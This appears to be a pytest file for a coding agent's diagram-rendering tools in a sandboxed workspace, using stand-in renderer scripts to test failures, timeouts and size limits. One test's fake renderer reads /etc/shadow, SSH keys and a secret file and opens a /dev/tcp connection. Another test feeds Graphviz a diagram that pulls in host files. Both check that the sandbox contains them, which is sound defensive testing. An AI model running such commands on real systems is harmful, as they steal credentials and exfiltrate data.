"""render_dot and render_mermaid with programs in the jail of a workspace: Graphviz, and programs that stand in for a
renderer which fails, hangs or attacks."""
import contextlib
import os
import pathlib
import shutil
import socket
import tempfile

from coding_agent import agent
from shell_tools_test import MARK, processes_with
from traces import await_true


@contextlib.contextmanager
def program(name, text):
    """A directory with a program of this name, where commands of a workspace can see it."""
    folder = pathlib.Path(tempfile.mkdtemp(dir="/var/tmp", prefix="polybox-bin-"))
    folder.chmod(0o755)
    (folder / name).write_text(text)
    (folder / name).chmod(0o755)
    try:
        yield folder
    finally:
        shutil.rmtree(folder)


@contextlib.contextmanager
def drawing(box, text, name="dot"):
    with program(name, text) as folder, path_is(box, f"{folder}:{os.environ['PATH']}"):
        with agent(box, "--tools=core,render") as tools:
            yield tools


@contextlib.contextmanager
def path_is(box, path):
    usual = box.env
    box.env = lambda extra=None: usual({"PATH": path} | (extra or {}))
    try:
        yield
    finally:
        del box.env


def names_in(tools):
    return tools.text("Bash", command="ls -A").split()


def test_a_picture_is_written_and_counts_as_read(box):
    with drawing(box, "#!/bin/sh\necho \"$1\"; cat\n") as tools:
        assert tools.text("render_dot", source="graph {}", output_path="out/a.svg") == "wrote 14 bytes to out/a.svg (svg)"
        assert tools.text("render_dot", source="graph {x}", output_path="out/a.svg") == "wrote 15 bytes to out/a.svg (svg)"
        assert tools.text("Bash", command="cat out/a.svg") == "-Tsvg\ngraph {x}\n"
        tools.text("Bash", command="echo other > out/a.svg")
        assert tools.error("render_dot", source="graph {}", output_path="out/a.svg") == \
            "refusing to overwrite out/a.svg: it has changed since it was read; Read it again"
        assert tools.text("render_dot", source="x", output_path="b.pdf") == "wrote 7 bytes to b.pdf (pdf)"


def test_a_failure_leaves_the_old_picture(box):
    with drawing(box, "#!/bin/sh\nread line\n[ \"$line\" = good ] && echo picture && exit\n"
                      "echo half a picture; echo wrong input >&2; exit 3\n") as tools:
        tools.text("render_dot", source="good\n", output_path="a.svg")
        assert tools.error("render_dot", source="bad\n", output_path="a.svg") == \
            "render_dot: dot: exit status 3: wrong input\n"
        assert tools.error("render_dot", source="bad\n", output_path="new.svg").startswith("render_dot: dot: exit status 3")
        assert tools.text("Bash", command="cat a.svg") == "picture\n"
        assert names_in(tools) == ["a.svg"]


def test_a_timeout_ends_every_process_of_the_renderer(box):
    sleep = f"77.{MARK}"
    with drawing(box, f"#!/bin/sh\nsetsid sleep {sleep} &\nsleep {sleep}\n") as tools:
        assert tools.error("render_dot", source="x", output_path="a.svg", timeout=1) == "render_dot: timed out after 1s"
        await_true(lambda: not processes_with(sleep), "the renderer ended")
        assert names_in(tools) == []


def test_a_renderer_that_leaves_processes_behind_loses_them(box):
    sleep = f"78.{MARK}"
    with drawing(box, f"#!/bin/sh\nsetsid sleep {sleep} > /dev/null 2>&1 &\ncat\n") as tools:
        assert tools.text("render_dot", source="x", output_path="a.svg") == "wrote 1 bytes to a.svg (svg)"
        await_true(lambda: not processes_with(sleep), "the renderer ended")


def test_a_picture_that_is_too_large_is_refused(box):
    with drawing(box, "#!/bin/sh\nhead -c 10485761 /dev/zero\n") as tools:
        assert tools.error("render_dot", source="x", output_path="a.svg") == (
            "render_dot: output 10485761 bytes exceeds cap 10485760; reduce diagram complexity or use a lighter format")


def test_a_missing_program_is_named_with_its_package(box):
    # 127 is what bash answers for a program that is not there.
    with drawing(box, "#!/bin/sh\nexit 127\n") as tools:
        assert tools.error("render_dot", source="x", output_path="a.svg") == (
            "render_dot: graphviz (dot) not found on PATH\n"
            "install the Debian package graphviz, or start polybox with a PATH that has dot")
        if not shutil.which("mmdc"):
            text = tools.error("render_mermaid", source="graph TD; a-->b", output_path="a.svg")
            assert text.startswith("render_mermaid: mermaid-cli (mmdc) not found on PATH\ninstall the npm package "), text
        assert names_in(tools) == []


def test_a_renderer_reads_no_file_of_the_host_and_reaches_nobody(box):
    """A renderer that a hostile diagram has taken over completely."""
    secret = box.write("secret", "the secret")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.01)
        port = listener.getsockname()[1]
        attack = (f"#!/bin/bash\ncat {secret} 2>&1\n(echo hello > /dev/tcp/127.0.0.1/{port}) 2>&1\n"
                  "for file in /root/* /home/*/.ssh/* /etc/shadow; do head -c 100 $file; done 2>&1\necho end\n")
        with drawing(box, attack) as tools:
            tools.text("render_dot", source="x", output_path="a.svg")
            shown = tools.text("Bash", command="cat a.svg")
        assert "the secret" not in shown and "root:" not in shown and "end\n" in shown, shown
        with contextlib.suppress(TimeoutError):
            raise AssertionError(f"the renderer connected: {listener.accept()}")


def test_graphviz_draws_and_reads_no_file_of_the_host(box):
    secret = box.write("secret.svg", "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><text>secret</text></svg>")
    hostile = f"""graph {{
      a [image="{secret}"]; b [shape=epsf, shapefile="{secret}"]; c [image="http://127.0.0.1:9/x.png"];
      d [label=<<TABLE><TR><TD><IMG SRC="{secret}"/></TD></TR></TABLE>>]; imagepath="{secret.parent}"
    }}"""
    with agent(box, "--tools=core,render") as tools:
        text = tools.text("render_dot", source="digraph { a -> b }", output_path="a.svg")
        assert text.startswith("wrote ") and text.endswith(" bytes to a.svg (svg)"), text
        assert tools.text("Bash", command="head -c 5 a.svg") == "<?xml\n"
        for kind, magic in (("png", "PNG"), ("pdf", "%PDF")):
            tools.text("render_dot", source="digraph { a -> b }", output_path=f"a.{kind}")
            assert magic in tools.text("Bash", command=f"head -c 5 a.{kind} | tr -cd '[:print:]'")
        result = tools.answer("render_dot", source=hostile, output_path="b.svg")
        drawn = tools.text("Bash", command="cat b.svg 2>/dev/null; true")
        assert "<text>secret</text>" not in drawn, drawn
        assert result["isError"] or "secret</text>" not in drawn, result
        text = tools.error("render_dot", source="this is no graph", output_path="c.svg")
        assert text.startswith("render_dot: dot: exit status 1: "), text
